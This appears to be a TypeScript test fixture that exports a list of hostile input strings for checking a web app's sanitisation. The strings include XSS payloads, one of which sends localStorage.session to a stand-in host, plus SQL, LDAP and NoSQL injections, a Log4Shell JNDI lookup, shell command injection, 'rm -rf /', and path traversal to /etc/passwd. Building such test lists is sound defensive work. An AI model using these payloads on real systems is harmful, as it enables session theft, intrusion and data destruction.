const OWN = 'window.owned=1';
const ELSEWHERE = 'https://elsewhere.example';

const scripts = [
  `<script>${OWN}</script>`,
  `<SCRIPT SRC=${ELSEWHERE}/x.js></SCRIPT>`,
  `"><script>${OWN}</script>`,
  `'><script>${OWN}</script>`,
  `</textarea><script>${OWN}</script>`,
  `</title><script>${OWN}</script>`,
  `</p></li></ul><script>${OWN}</script>`,
  `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  `<script/x>${OWN}</script>`,
  `<script type="module">import '${ELSEWHERE}/x.js'</script>`,
  `<!--><script>${OWN}</script-->`,
  `<![CDATA[<script>${OWN}</script>]]>`,
  `]]><script>${OWN}</script>`,
  `\uFF1Cscript\uFF1E${OWN}\uFF1C/script\uFF1E`,
  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `<template><script>${OWN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${OWN}>">`,
  `<script>fetch('${ELSEWHERE}?'+localStorage.session)</script>`,
];

const handlers = [
  `<img src=x onerror=${OWN}>`,
  `<img src="${ELSEWHERE}/pixel.gif">`,
  `<img srcset="${ELSEWHERE}/a 1x" onerror="alert(1)">`,
  `<svg onload=${OWN}>`,
  `<svg><animate onbegin=${OWN} attributeName=x dur=1s>`,
  `<svg><script>${OWN}</script></svg>`,
  `<body onload=${OWN}>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<object data="${ELSEWHERE}/x.swf"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<details open ontoggle=${OWN}>x</details>`,
  `<input autofocus onfocus=${OWN}>`,
  `<video><source onerror=${OWN}></video>`,
  `<audio src=x onerror=${OWN}></audio>`,
  `<marquee onstart=${OWN}>x</marquee>`,
  `<math><mtext><img src=x onerror=${OWN}></mtext></math>`,
  `<form action="${ELSEWHERE}"><button autofocus>Sign in again</button></form>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `" onmouseover="${OWN}" x="`,
];

const addresses = [
  `javascript:${OWN}`,
  `JaVaScRiPt:${OWN}`,
  `java\tscript:${OWN}`,
  `[click](javascript:${OWN})`,
  `<a href="javascript:${OWN}" autofocus>x</a>`,
  `data:text/html,<script>parent.owned=1</script>`,
  'vbscript:msgbox(1)',
  'mailto:a@example.org?bcc=everyone@example.org',
  '//elsewhere.example/%2e%2e',
  'file:///etc/passwd',
  '../../../../etc/passwd',
];

const templates = [
  '{{7*7}}',
  `{{constructor.constructor("${OWN}")()}}`,
  '${7*7}',
  `\${${OWN}}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '{% for x in range(9) %}x{% endfor %}',
  '{"__proto__":{"isAdmin":true}}',
  'constructor.prototype.owned',
  '${jndi:ldap://elsewhere.example/a}',
  '$(touch /tmp/owned)',
  '`touch /tmp/owned`',
  '; rm -rf / --no-preserve-root',
  '%s%s%s%n%x%d',
  '{0} {1} {name}',
];

const databases = [
  "'; drop table contact_form; --",
  "' or '1'='1",
  '" or ""="',
  "') union select * from auth.users --",
  "\\'; select pg_sleep(10); --",
  '$$; set role postgres; $$',
  'eq.1,or(id.gt.0)',
  '*)(uid=*))(|(uid=*',
  '{"$gt":""}',
];

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;amp;',
  '&#60;img src=x&#62;',
  '&nbsp;&zwnj;&rlm;',
  '&notanentity; & &;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const styles = [
  '<style>*{display:none!important}</style>',
  `<div style="position:fixed;inset:0;background:url(${ELSEWHERE}/x)">x</div>`,
  `@import url("${ELSEWHERE}/x.css");`,
  '*{}</style><b>bold</b>',
  '# A heading\n\n**bold** _soft_ `code`\n\n| a | b |\n|---|---|',
  `![picture](${ELSEWHERE}/x.png)`,
];

const empties = [
  'null',
  'undefined',
  'NaN',
  'false',
  '0',
  '[object Object]',
  '\\0',
  '%00',
  String.raw`\u0000`,
];

const directions = [
  '\u202Egnp.exe\u202C',
  '\u202E\u202E\u202E never closed',
  '\u2067isolate never closed',
  '\u200F\u200E\u061C marks of direction',
  'left \u05D0\u05D1\u05D2 \u0627\u0644\u0633\u0644\u0627\u0645 right 123',
  '\u0628\u0650\u0633\u0652\u0645\u0650 \u0671\u0644\u0644\u0651\u064E\u0647\u0650 \u0671\u0644\u0631\u0651\u064E\u062D\u0652\u0645\u064E\u0670\u0646\u0650',
];

const invisibles = [
  'zero\u200Bwidth\u200Cjoiners\u200Dhere\u2060now',
  '\u200B\u200B\u200B',
  '\u00ADsoft\u00ADhyphens\u00AD',
  '\u0001\u0002\u0007\u001B[31mred\u001B[0m',
  'line\u2028and paragraph\u2029separators',
  'one\ntwo\r\nthree\rfour\n\n\n\nfive',
  '\t\t\ttabs\t\tand   many    blanks   ',
];

const marks = [
  '\u0301\u0302\u0303',
  `Z${'\u0334\u0352\u035D\u0318'.repeat(60)}algo`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{1F3FD}\u{1F1F8}\u{1F1E6}\u{1F1F8}',
  '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '\uFDFA\uFDFD'.repeat(20),
];

const giants = [
  'a'.repeat(5000),
  '\u0628'.repeat(5000),
  '\u{1F319}'.repeat(5000),
  `https://example.org/${'path/'.repeat(900)}`,
  'x\n'.repeat(2400),
];

/** What people and machines write who wish us ill, or only write in their own way. */
export const hostileStrings: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...templates,
  ...databases,
  ...entities,
  ...styles,
  ...empties,
  ...directions,
  ...invisibles,
  ...marks,
  ...giants,
];
